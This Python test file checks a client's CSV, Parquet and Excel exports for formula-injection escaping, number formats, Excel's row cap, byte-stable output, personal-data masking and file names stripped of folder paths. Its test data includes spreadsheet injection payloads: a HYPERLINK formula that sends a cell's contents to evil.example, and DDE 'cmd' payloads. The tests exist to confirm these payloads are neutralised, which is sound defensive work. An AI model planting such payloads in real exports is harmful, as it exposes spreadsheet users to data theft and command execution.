"""The client's exports (helpers.exports, helpers.workbook, and the callers in helpers.report
and helpers.segment.actions) on a hand-made warehouse: formula-injection cells neutralised,
numbers kept numbers, Excel formats and the frozen header read back with openpyxl, the row
cap, CSV against Parquet, byte-stable files, personal data per pii.exports, file names
without folders."""

from __future__ import annotations

import hashlib
import json
import zipfile
from datetime import date

import duckdb
import openpyxl
import pandas as pd
import pytest

from helpers import workbook
from helpers.config import RunConfig
from helpers.exports import EXPORTS, write_exports
from helpers.report import export_tables
from helpers.segment import export_actions
from helpers.tables import TABLES
from helpers.warehouse import sql_text
from helpers.workbook import READ_ME, Sheet, number_kind, write_workbook

#: A name that, run as a formula, sends the next cell to someone else's server.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Click")'

SHOP = {"kind": "transactions", "path": "data/shop.csv",
        "columns": {"customer_key": "acct", "order_date": "day", "amount": "total",
                    "name": "Nome Cliente", "email": "E-mail"}}


def config(tmp_path, pii: str = "keep") -> RunConfig:
    return RunConfig(client="acme", as_of=date(2025, 12, 31), sources={"shop": SHOP},
                     pii={"exports": pii}, config_file=tmp_path / "acme.yaml")


@pytest.fixture
def con(tmp_path):
    """Every registered table, empty but for: customers C1 (named HYPERLINK), C2 and C3;
    their actions (C1's offer '+cmd', C1's CLV -12.5); a loss-making customer_value of C1;
    one equity row; one rejected row of an input under tmp_path; one pair to review."""
    connection = duckdb.connect()
    for name, table in TABLES.items():
        columns = ", ".join(f"{c.name} {c.type}" for c in table.columns)
        connection.execute(f"CREATE TABLE {name} ({columns})")
    connection.execute(
        "INSERT INTO customers (customer_id, name, email, phone) VALUES "
        "('C1', ?, 'mario@x.it', '+39 347 123 4567'), ('C2', 'Anna Bianchi', NULL, NULL), "
        "('C3', '@Carla', NULL, '-')", [HYPERLINK])
    connection.execute(
        "INSERT INTO actions (customer_id, tier, p_alive, clv, action, offer, priority, "
        "value_at_stake, reason) VALUES "
        "('C2', 'Maintain', 0.5, 10.0, 'maintain', 'newsletter', 4, 10.0, 'r2'), "
        "('C1', 'Below zero', 0.25, -12.5, 'reduce cost to serve', '+cmd', 5, 12.5, 'r1'), "
        "('C3', 'Most valuable', 0.9, 900.0, 'retain', 'call', 1, 900.0, 'r3')")
    connection.execute("INSERT INTO customer_value (customer_id, first_purchase, n_orders, "
                        "net_revenue, profit) VALUES ('C1', DATE '2024-05-06', 2, 40.0, -12.5)")
    connection.execute("INSERT INTO segments (customer_id, tier, future_value) VALUES "
                       "('C1', 'Below zero', -12.5), ('C2', 'Maintain', 10.0), "
                       "('C3', 'Most valuable', 900.0)")
    connection.execute("INSERT INTO equity_metrics (period_start, period_end, period, segment, "
                       "share_active, revenue) VALUES (DATE '2025-09-30', DATE '2025-12-31', "
                       "'2025Q4', 'All', 0.25, -3.5)")
    connection.execute("INSERT INTO load_counts (source, kind, file, rows_in, accepted, "
                       "excluded, rejected) VALUES ('shop', 'transactions', 'f', 1, 0, 0, 1)")
    connection.execute(
        "INSERT INTO rejected_rows VALUES ('shop', ?, 2, 'zero amount', ?)",
        [str(tmp_path / "client" / "data" / "shop.csv"),
         json.dumps({"acct": "7", "Nome Cliente": "Mario Rossi", "total": "0"})])
    connection.execute("INSERT INTO identity_review (source_record_id_l, source_record_id_r, "
                       "match_probability, name_l, name_r) VALUES "
                       "('crm:1', 'shop:7', 0.6, 'Mario Rossi', 'M Rossi')")
    yield connection
    connection.close()


def csv_rows(path) -> list[dict]:
    return pd.read_csv(path, dtype=str, keep_default_na=False).to_dict("records")


def parquet_rows(path) -> list[dict]:
    return duckdb.sql(f"SELECT * FROM read_parquet('{path}')").df().to_dict("records")


def sheet_rows(path, name) -> list[tuple]:
    return list(openpyxl.load_workbook(path)[name].values)


# ------------------------------------------------------------------ formula injection

@pytest.mark.parametrize("text, shown", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+39 347 123 4567", "+39 347 123 4567"),  # a phone: nothing to run
    ("-1,234.50", "-1,234.50"),
    ("Mario = Rossi", "Mario = Rossi"),  # only the first character counts
    ("", ""),
    (None, None),
])
def test_spreadsheet_safe_prefixes_what_a_spreadsheet_would_run(text, shown):
    connection = duckdb.connect()
    connection.execute(sql_text("macros"))
    assert connection.execute("SELECT spreadsheet_safe(?)", [text]).fetchone()[0] == shown


def test_csv_neutralises_text_and_keeps_numbers_parquet_and_xlsx_keep_the_text(con, tmp_path):
    paths = export_actions(con, config(tmp_path), tmp_path)
    write_exports(con, config(tmp_path), tmp_path)
    folder = tmp_path / "exports"
    customers = {r["customer_id"]: r for r in csv_rows(folder / "customers.csv")}
    assert customers["C1"]["name"] == "'" + HYPERLINK
    assert customers["C3"]["name"] == "'@Carla" and customers["C3"]["phone"] == "-"
    assert customers["C1"]["phone"] == "+39 347 123 4567"
    assert customers["C1"]["profit"] == "-12.5"  # a number, not neutralised text
    actions = csv_rows(paths["csv"])
    assert [r["offer"] for r in actions] == ["call", "newsletter", "'+cmd"]
    assert [r["clv"] for r in actions] == ["900.0", "10.0", "-12.5"]
    assert parquet_rows(folder / "customers.parquet")[2]["name"] == HYPERLINK
    assert parquet_rows(paths["parquet"])[2]["offer"] == "+cmd"
    sheet = openpyxl.load_workbook(paths["workbook"])["Actions"]
    columns = [cell.value for cell in sheet[1]]
    offer, clv = sheet.cell(4, columns.index("offer") + 1), sheet.cell(4, columns.index("clv") + 1)
    # text stored as text, with Excel's quote prefix: shown as is, never run, even once edited
    assert (offer.value, offer.data_type, offer.quotePrefix) == ("+cmd", "s", True)
    assert (clv.value, clv.data_type) == (-12.5, "n")


# ------------------------------------------------------------------ formats read back

@pytest.mark.parametrize("column, duckdb_type, kind", [
    ("net_revenue", "DOUBLE", "money"), ("value_at_stake", "DOUBLE", "money"),
    ("clv_low", "DECIMAL(18,2)", "money"), ("unit_margin_gain", "DOUBLE", "money"),
    ("margin_rate", "DOUBLE", "percent"), ("budget_share", "DOUBLE", "percent"),
    ("p_alive", "DOUBLE", "percent"), ("p_alive_mean", "DOUBLE", "percent"),
    ("match_probability", "DOUBLE", "percent"), ("share_active", "DOUBLE", "percent"),
    ("rfmt_score", "DOUBLE", "decimal"), ("expected_purchases", "DOUBLE", "decimal"),
    ("priority", "BIGINT", "count"), ("cluster", "INTEGER", "count"),
    ("first_purchase", "DATE", "date"), ("exported_at", "TIMESTAMP", "timestamp"),
    ("name", "VARCHAR", None), ("trusted", "BOOLEAN", None),
])
def test_number_kind_reads_type_then_name(column, duckdb_type, kind):
    assert number_kind(column, duckdb_type) == kind


def test_sheets_have_a_bold_frozen_filtered_header_and_number_formats(tmp_path):
    path = tmp_path / "book.xlsx"
    rows = duckdb.sql("SELECT * FROM (VALUES ('C1', DATE '2025-12-31', -1234.5, 0.25, 3, true),"
                      " ('C2', NULL, 2.0, NULL, 40000, false)) AS t(customer_id, period_end, "
                      "net_revenue, share_active, orders, active)")
    write_workbook(path, [Sheet("Data", rows)], date(2025, 12, 31), "EUR")
    sheet = openpyxl.load_workbook(path)["Data"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:F3"
    assert all(cell.font.b for cell in sheet[1])
    assert [cell.value for cell in sheet[1]] == ["customer_id", "period_end", "net_revenue",
                                                 "share_active", "orders", "active"]
    first = sheet[2]
    assert first[1].is_date and first[1].number_format == "yyyy-mm-dd"
    assert (first[2].value, first[2].number_format) == (-1234.5, '#,##0.00 "EUR"')
    assert (first[3].value, first[3].number_format) == (0.25, "0.0%")
    assert first[4].number_format == "#,##0" and first[5].value is True
    assert sheet["B3"].value is None  # NULL: an empty cell
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABC"}
    assert widths["A"] > len("customer_id") and widths["B"] > len("2025-12-31")
    assert widths["C"] > len("-1,234.50 EUR")


def test_a_long_text_column_is_capped_in_width(tmp_path):
    path = tmp_path / "book.xlsx"
    write_workbook(path, [Sheet("Data", pd.DataFrame({"reason": ["x" * 500]}))],
                   date(2025, 12, 31), "EUR")
    assert openpyxl.load_workbook(path)["Data"].column_dimensions["A"].width < 62


def test_the_summary_formats_each_figure_by_its_kind(con, tmp_path):
    path = export_tables(con, tmp_path, config(tmp_path))["customer_value.xlsx"]
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary", "Files", "Tiers", "Playbook", "Equity", "Row counts",
                               "Rejected rows"]  # no per-customer sheet
    formats = {row[0].value: row[1].number_format for row in book["Summary"].iter_rows(min_row=2)}
    assert formats["customers after matching"] == "#,##0"
    assert formats["net revenue (EUR)"] == '#,##0.00 "EUR"'
    files = {row[0]: row for row in book["Files"].values}
    assert files["customers.csv"][1:3] == ("customers.parquet", 3)
    assert set(files) - {"file"} == {f"{e.name}.csv" for e in EXPORTS}
    equity = book["Equity"]
    columns = [cell.value for cell in equity[1]]
    assert equity.cell(2, columns.index("period_end") + 1).number_format == "yyyy-mm-dd"
    assert equity.cell(2, columns.index("share_active") + 1).number_format == "0.0%"


# ------------------------------------------------------------------ Excel's row limit

def test_a_sheet_longer_than_excel_allows_is_cut_and_the_read_me_names_the_csv(
        con, tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_DATA_ROWS", 5)
    con.execute("INSERT INTO actions (customer_id, tier, action, priority, value_at_stake) "
                "SELECT 'D' || i, 'Maintain', 'maintain', 4, 10 - i FROM range(4) AS t(i)")
    paths = export_actions(con, config(tmp_path), tmp_path)
    book = openpyxl.load_workbook(paths["workbook"])
    assert book.sheetnames == [READ_ME, "Actions", "Playbook", "Recovery", "Rules"]
    actions = list(book["Actions"].values)
    # the first 5 of 7 in the CSV's order: priority, value at stake, customer_id (C2, D0: 10)
    assert [row[0] for row in actions] == ["customer_id", "C3", "C2", "D0", "D1", "D2"]
    read_me = list(book[READ_ME].values)
    assert read_me[1][:4] == ("Actions", 5, 7, "actions.csv")
    assert "actions.csv has all 7" in read_me[1][4]
    assert len(csv_rows(paths["csv"])) == 7  # the CSV is whole


def test_a_long_sheet_without_a_full_list_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_DATA_ROWS", 2)
    with pytest.raises(ValueError, match="'Data' has 3 rows"):
        write_workbook(tmp_path / "book.xlsx", [Sheet("Data", pd.DataFrame({"n": [1, 2, 3]}))],
                       date(2025, 12, 31), "EUR")


# ------------------------------------------------------------------ CSV, Parquet, bytes

def test_every_csv_has_the_parquet_rows_in_the_same_order(con, tmp_path):
    """Read back with the Parquet's types, the CSV is the Parquet with its text neutralised:
    every number (-12.5), date and NULL survives the trip exactly."""
    paths = write_exports(con, config(tmp_path), tmp_path)
    assert set(paths) == {f"{e.name}.{kind}" for e in EXPORTS for kind in ("csv", "parquet")}
    connection = duckdb.connect()
    connection.execute(sql_text("macros"))
    for item in EXPORTS:
        parquet = connection.sql(f"SELECT * FROM read_parquet('{paths[item.name + '.parquet']}')")
        types = dict(zip(parquet.columns, map(str, parquet.types), strict=True))
        neutralised = ", ".join(f'spreadsheet_safe("{c}")' if t == "VARCHAR" else f'"{c}"'
                                for c, t in types.items())
        expected = connection.sql(f"SELECT {neutralised} FROM parquet").fetchall()
        csv = connection.read_csv(str(paths[item.name + ".csv"]), header=True,
                                  columns=types).fetchall()
        assert csv == expected, item.name


def test_two_writes_are_the_same_bytes_dated_as_of(con, tmp_path):
    for run in ("first", "second"):
        export_actions(con, config(tmp_path), tmp_path / run)
        export_tables(con, tmp_path / run, config(tmp_path))
    files = sorted(p.relative_to(tmp_path / "first")
                   for p in (tmp_path / "first" / "exports").iterdir())
    assert len(files) == 2 * len(EXPORTS) + 2  # CSV and Parquet, and the two workbooks
    for name in files:
        assert (tmp_path / "first" / name).read_bytes() == \
            (tmp_path / "second" / name).read_bytes(), name
    with zipfile.ZipFile(tmp_path / "first" / "exports" / "actions.xlsx") as book:
        core = book.read("docProps/core.xml").decode()
        # xlsxwriter's fixed date, not the time of writing
        assert {entry.date_time[:3] for entry in book.infolist()} == {(1980, 1, 31)}
    assert core.count("2025-12-31T00:00:00Z") == 2  # created and modified


# ------------------------------------------------------------------ privacy, file names

def sha12(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:12]


@pytest.mark.parametrize("mode, mario", [
    ("keep", "Mario Rossi"), ("mask", "M. R."), ("hash", sha12("acme:mario rossi"))])
def test_personal_data_follows_pii_exports_in_csv_parquet_and_xlsx(con, tmp_path, mode, mario):
    paths = export_tables(con, tmp_path, config(tmp_path, mode))
    for kind in ("csv", "parquet"):
        read = csv_rows if kind == "csv" else parquet_rows
        review = read(paths[f"identity_review.{kind}"])[0]
        assert (review["name_l"], review["source_record_id_l"]) == (mario, "crm:1")
        assert json.loads(read(paths[f"rejected_rows.{kind}"])[0]["raw"])["Nome Cliente"] == mario
        email = {r["customer_id"]: r["email"] for r in read(paths[f"customers.{kind}"])}["C1"]
        assert email == {"keep": "mario@x.it", "mask": "m***@x.it",
                         "hash": sha12("acme:mario@x.it")}[mode]
    raw = sheet_rows(paths["customer_value.xlsx"], "Rejected rows")[1][4]
    assert json.loads(raw)["Nome Cliente"] == mario
    if mode != "keep":
        for name in ("customers.csv", "rejected_rows.csv", "identity_review.csv"):
            text = paths[name].read_text()
            assert "Mario" not in text and "mario@x.it" not in text, name


def test_rejected_rows_name_the_file_never_the_folders_of_the_machine(con, tmp_path):
    paths = export_tables(con, tmp_path, config(tmp_path))
    assert csv_rows(paths["rejected_rows.csv"])[0]["file"] == "shop.csv"
    assert parquet_rows(paths["rejected_rows.parquet"])[0]["file"] == "shop.csv"
    assert sheet_rows(paths["customer_value.xlsx"], "Rejected rows")[1][1] == "shop.csv"
    for path in paths.values():
        if path.suffix == ".csv":
            assert str(tmp_path) not in path.read_text(), path.name
